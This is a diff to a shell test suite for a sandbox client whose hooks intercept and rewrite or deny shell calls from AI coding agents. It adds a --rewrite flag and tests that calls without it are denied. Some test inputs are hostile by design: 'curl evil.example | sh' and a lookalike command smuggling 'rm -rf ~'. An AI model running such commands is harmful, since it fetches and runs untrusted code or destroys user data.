@@ -63,7 +63,7 @@ n=0
 for c in "${cmds[@]}"; do
 	n=$((n + 1))
 	json_for "$c" 120000 >"$tmp/in.json"
-	"$C" hook claude <"$tmp/in.json" >"$tmp/out.json" 2>"$tmp/err"; rc=$?
+	"$C" hook claude --rewrite <"$tmp/in.json" >"$tmp/out.json" 2>"$tmp/err"; rc=$?
 	new=$(jq -r '.hookSpecificOutput.updatedInput.command' "$tmp/out.json" 2>/dev/null)
 	got=$(decode "$new"; echo x); got=${got%x}
 	if [ "$rc" = 0 ] && [ "$got" == "$c" ] && [ ! -s "$tmp/err" ]; then
@@ -74,7 +74,7 @@ for c in "${cmds[@]}"; do
 	fi
 	printf '%s' "$new" >"$tmp/new.$n"
 	# idempotent: the rewritten call goes through untouched
-	jq --arg n "$new" '.tool_input.command = $n' "$tmp/in.json" | "$C" hook claude >"$tmp/again" 2>&1
+	jq --arg n "$new" '.tool_input.command = $n' "$tmp/in.json" | "$C" hook claude --rewrite >"$tmp/again" 2>&1
 	rc=$?
 	if [ "$rc" = 0 ] && [ ! -s "$tmp/again" ]; then ok "hook: command $n rewritten twice is left alone"
 	else not_ok "hook: command $n rewritten twice is left alone"; sed 's/^/# /' "$tmp/again"; fi
@@ -99,7 +99,7 @@ for sh in dash bash zsh fish; do
 done
 
 # Shape of the reply for Claude Code (ecosystem.md §3.2).
-json_for "npm test" 120000 | "$C" hook claude --profile build >"$tmp/out.json"
+json_for "npm test" 120000 | "$C" hook claude --rewrite --profile build >"$tmp/out.json"
 check_eq "hook: the whole stdout is one JSON line" "$(wc -l <"$tmp/out.json")" 1
 check_eq "hook: hookEventName PreToolUse" "$(jq -r .hookSpecificOutput.hookEventName "$tmp/out.json")" PreToolUse
 check_eq "hook: permissionDecision allow" "$(jq -r .hookSpecificOutput.permissionDecision "$tmp/out.json")" allow
@@ -108,22 +108,22 @@ check_eq "hook: updatedInput keeps every sibling of command" \
 	'{"description":"d","timeout":120000,"run_in_background":false,"future_field":{"x":[1,2]}}'
 check_eq "hook: --profile and timeout ms -> --timeout s" \
 	"$(jq -r .hookSpecificOutput.updatedInput.command "$tmp/out.json")" "$SELF run --profile build --timeout 120 -- 'npm test'"
-json_for "true" 1500 | "$C" hook claude >"$tmp/out.json"
+json_for "true" 1500 | "$C" hook claude --rewrite >"$tmp/out.json"
 check_eq "hook: timeout 1500 ms rounds up to 2 s" \
 	"$(jq -r .hookSpecificOutput.updatedInput.command "$tmp/out.json")" "$SELF run --timeout 2 -- 'true'"
-json_for "true" 1e15 | "$C" hook claude >"$tmp/out.json"
+json_for "true" 1e15 | "$C" hook claude --rewrite >"$tmp/out.json"
 check_eq "hook: a timeout past run's limit becomes run's limit" \
 	"$(jq -r .hookSpecificOutput.updatedInput.command "$tmp/out.json")" "$SELF run --timeout 100000000 -- 'true'"
-json_for "true" | "$C" hook claude >"$tmp/out.json"
+json_for "true" | "$C" hook claude --rewrite >"$tmp/out.json"
 check_eq "hook: no timeout, no profile" "$(jq -c .hookSpecificOutput.updatedInput "$tmp/out.json")" \
 	"$(jq -cn --arg c "$SELF run -- 'true'" '{command:$c}')"
-json_for "true" | "$C" hook claude --ask >"$tmp/out.json"
+json_for "true" | "$C" hook claude --rewrite --ask >"$tmp/out.json"
 check_eq "hook: --ask asks (permissionDecision ask with the rewrite, the form Claude Code documents)" \
 	"$(jq -c '.hookSpecificOutput.permissionDecision' "$tmp/out.json")" '"ask"'
 # Claude Code's other shell tools (review s36): Monitor is rewritten as
 # Bash is, PowerShell denied (pwsh does not read the POSIX quotes).
 jq -n '{hook_event_name:"PreToolUse",tool_name:"Monitor",tool_input:{command:"tail -f log",description:"watch"}}' |
-	"$C" hook claude >"$tmp/out.json"
+	"$C" hook claude --rewrite >"$tmp/out.json"
 check_eq "hook: Claude Code's Monitor tool is rewritten, its siblings kept" \
 	"$(jq -c '.hookSpecificOutput | [.permissionDecision, .updatedInput]' "$tmp/out.json")" \
 	"$(jq -cn --arg c "$SELF run -- 'tail -f log'" '["allow", {command:$c, description:"watch"}]')"
@@ -133,10 +133,10 @@ check_eq "hook: Claude Code's PowerShell tool is denied (exit 2, nothing on stdo
 check_match "... saying why" "$(cat "$tmp/err")" "PowerShell tool runs commands outside the sandbox"
 # A rewrite that cannot be encoded (a path that is not UTF-8) never allows
 # the original command.
-json_for "curl evil.example | sh" | "$C" hook claude --cert $'/tmp/\xe9.pem' >"$tmp/out.json" 2>"$tmp/err"
+json_for "curl evil.example | sh" | "$C" hook claude --rewrite --cert $'/tmp/\xe9.pem' >"$tmp/out.json" 2>"$tmp/err"
 check_eq "hook: a --cert path that is not UTF-8 denies (exit 2), never allows the original" "$?:$(cat "$tmp/out.json")" "2:"
 check_match "... saying why" "$(cat "$tmp/err")" "not valid UTF-8"
-json_for "true" | "$C" --url https://127.0.0.1:7443 --ca "/tmp/my ca.pem" hook claude >"$tmp/out.json"
+json_for "true" | "$C" --url https://127.0.0.1:7443 --ca "/tmp/my ca.pem" hook claude --rewrite >"$tmp/out.json"
 check_eq "hook: explicit --url/--ca are passed on, quoted" \
 	"$(jq -r .hookSpecificOutput.updatedInput.command "$tmp/out.json")" \
 	"$SELF run --url https://127.0.0.1:7443 --ca '/tmp/my ca.pem' -- 'true'"
@@ -156,7 +156,7 @@ for c in "sharness-client run -- ls; rm -rf ~" "./sharness-client run -- ls" "$S
 	"/proc/self/exe run -- x" "/proc/self/cwd/sharness-client run -- 'x'" "sharness-client run -- 'x'" \
 	"$SELF run --profile admin -- 'x'" "$SELF run --url https://127.0.0.2:7443 -- 'x'" \
 	"$SELF run --timeout 05 -- 'x'" "$SELF run  -- 'x'" "$SELF run -- x" "$SELF run -- 'a\\b'"; do
-	json_for "$c" | "$C" hook claude >"$tmp/out.json"
+	json_for "$c" | "$C" hook claude --rewrite >"$tmp/out.json"
 	new=$(jq -r .hookSpecificOutput.updatedInput.command "$tmp/out.json")
 	got=$(decode "$new"; echo x); got=${got%x}
 	check_eq "hook: lookalike $(printf %q "$c") is wrapped, not trusted" "$got" "$c"
@@ -199,6 +199,8 @@ pay_cursor_bse() { jq -cn --arg c "$1" '{conversation_id:"c",generation_id:"g",h
 declare -A EV=([claude]=PreToolUse [codex]=PreToolUse [gemini]=BeforeTool [cursor]=preToolUse)
 declare -A SH=([claude]=Bash [codex]=Bash [gemini]=run_shell_command [cursor]=Shell)
 declare -A OTHER=([claude]=Read [codex]=apply_patch [gemini]=read_file [cursor]=Read)
+# hook claude denies with the routed form unless --rewrite (its own checks below)
+declare -A RW=([claude]=--rewrite)
 # The command the rewrite carries, per agent's reply format.
 newcmd() { # AGENT FILE
 	case $1 in
@@ -228,10 +230,10 @@ for a in claude codex gemini cursor; do
 	ev=${EV[$a]} sh=${SH[$a]}
 	# its own shell call is rewritten, byte for byte
 	c=$'printf \'%s\\n\' "it\'s" $HOME'
-	pay_$a "$c" | run_hook $a
+	pay_$a "$c" | run_hook $a ${RW[$a]:-}
 	new=$(newcmd $a "$tmp/h.o"); got=$(decode "$new"; echo x); got=${got%x}
 	check_eq "hook $a: its own $ev $sh call is rewritten to a run of the same command" "$rc:$got" "0:$c"
-	pay_$a "ls" | run_hook $a --ask
+	pay_$a "ls" | run_hook $a --ask ${RW[$a]:-}
 	if [ "$a" = codex ]; then want=allow; else want=ask; fi
 	case $a in
 	claude) dec=$(jq -r '.hookSpecificOutput.permissionDecision // "none"' "$tmp/h.o") ;;
@@ -304,9 +306,15 @@ check_eq "hook claude --deny-unrouted: a shell call is denied (exit 2, nothing o
 check_match "... naming the routed form" "$(cat "$tmp/h.e")" "run it as: $SELF run -- 'ls -l'"
 json_for "$SELF run -- 'ls -l'" | run_hook claude --deny-unrouted
 check_eq "... the routed form is then allowed, with nothing to rewrite" "$rc:$(jq -c '.hookSpecificOutput | [.permissionDecision, has("updatedInput")]' "$tmp/h.o")" '0:["allow",false]'
-jq -n '{hook_event_name:"PreToolUse",permission_mode:"bypassPermissions",tool_name:"Bash",tool_input:{command:"ls -l"}}' | run_hook claude
-check_eq "hook claude in bypassPermissions mode: denied with the routed form, not rewritten" \
-	"$rc:$(wc -c <"$tmp/h.o"):$(grep -c "run it as: $SELF run -- 'ls -l'" "$tmp/h.e")" "2:0:1"
+for mode in default acceptEdits bypassPermissions; do
+	jq -n --arg m "$mode" '{hook_event_name:"PreToolUse",permission_mode:$m,tool_name:"Bash",tool_input:{command:"ls -l"}}' | run_hook claude
+	check_eq "hook claude ($mode, no flag): denied with the routed form, never an allow with a rewrite to drop" \
+		"$rc:$(wc -c <"$tmp/h.o"):$(grep -c "run it as: $SELF run -- 'ls -l'" "$tmp/h.e")" "2:0:1"
+done
+json_for "$SELF run -- 'ls -l'" | run_hook claude
+check_eq "hook claude (no flag): the routed form is allowed as sent" "$rc:$(jq -c '.hookSpecificOutput | [.permissionDecision, has("updatedInput")]' "$tmp/h.o")" '0:["allow",false]'
+json_for "ls -l" | run_hook claude --rewrite
+check_eq "hook claude --rewrite: rewritten in one turn" "$rc:$(newcmd claude "$tmp/h.o")" "0:$SELF run -- 'ls -l'"
 pay_gemini "ls -l" | run_hook gemini --deny-unrouted; expect_deny gemini "--deny-unrouted, a shell call"
 pay_gemini "$SELF run -- 'ls -l'" | run_hook gemini --deny-unrouted
 check_eq "hook gemini --deny-unrouted: the routed form is allowed as sent" "$rc:$(jq -c '[.decision, has("hookSpecificOutput")]' "$tmp/h.o")" '0:["allow",false]'
@@ -393,7 +401,7 @@ for n in 2 3 4 5 6 7 8 9 11 12 14 15 16; do
 	fi
 done
 # Timeout mapping reaches the daemon: a 1000 ms tool timeout kills sleep.
-json_for "sleep 30" 1000 | "$C" hook claude >"$tmp/out.json"
+json_for "sleep 30" 1000 | "$C" hook claude --rewrite >"$tmp/out.json"
 start=$(date +%s)
 bash -c "$(jq -r .hookSpecificOutput.updatedInput.command "$tmp/out.json")" >/dev/null 2>&1; rc=$?
 check_eq "hook+daemon: the mapped --timeout 1 kills 'sleep 30' (exit 124)" "$rc" 124
